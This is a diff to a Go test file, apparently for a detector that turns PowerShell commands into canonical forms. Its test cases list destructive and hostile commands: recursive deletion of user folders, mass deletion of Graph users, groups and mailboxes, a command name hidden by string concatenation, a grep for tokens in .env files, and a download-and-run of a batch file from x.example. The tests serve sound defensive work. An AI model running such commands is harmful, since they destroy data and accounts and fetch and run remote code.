@@ -61,6 +61,19 @@ func TestPowerShellEvaluated(t *testing.T) {
 		{[]string{`cmd /v:on /c "set T=C:\Users\dev&& rd /s /q !T!"`}, "rm -r -f /Users/dev"},
 		{[]string{`Select-String -Path .env, .env.prod -Pattern 'TOKEN'`}, "grep -E TOKEN .env .env.prod"},
 		{[]string{`Start-Process cmd.exe -ArgumentList '/c curl -o %TEMP%\a.bat http://x.example/a.bat && %TEMP%\a.bat'`}, "a.bat"},
+		// foreach statements: over listed strings, an array variable of
+		// them, or a command's output (the identity properties of $_
+		// and of the loop variable stand for the object).
+		{[]string{`foreach ($d in 'C:\Users\dev', 'C:\x') { Remove-Item -LiteralPath $d -Recurse -Force }`}, "rm -r -f /Users/dev /x"},
+		{[]string{`$paths = 'C:\Users\dev', 'D:\P4Root'`, `foreach ($p in $paths) { Remove-Item -LiteralPath $p -Recurse -Force }`}, "rm -r -f /Users/dev /P4Root"},
+		{[]string{`foreach ($u in Get-MgUser -All) { Remove-MgUser -UserId $u.Id }`}, "Remove-MgUser -UserId"},
+		{[]string{`Get-MgGroup -All | ForEach-Object { Remove-MgGroup -GroupId $_.Id }`}, "Remove-MgGroup -GroupId"},
+		// A variable holding a command's output, piped on.
+		{[]string{`$users = Get-MgUser -All`, `$users | Remove-MgUser`}, "Remove-MgUser"},
+		{[]string{`$files = Get-ChildItem C:\Users\dev\Documents -Recurse; $files | Remove-Item -Force`}, "rm -f /Users/dev/Documents/*"},
+		// A command named by a variable inside a ForEach-Object block,
+		// assigned before the pipeline.
+		{[]string{`$c = 'Remove-' + 'Mailbox'; Get-EXOMailbox -ResultSize Unlimited | ForEach-Object { & $c -Identity $_.PrimarySmtpAddress }`}, "Remove-Mailbox -Identity"},
 	}
 	for _, c := range cases {
 		st := NewState()
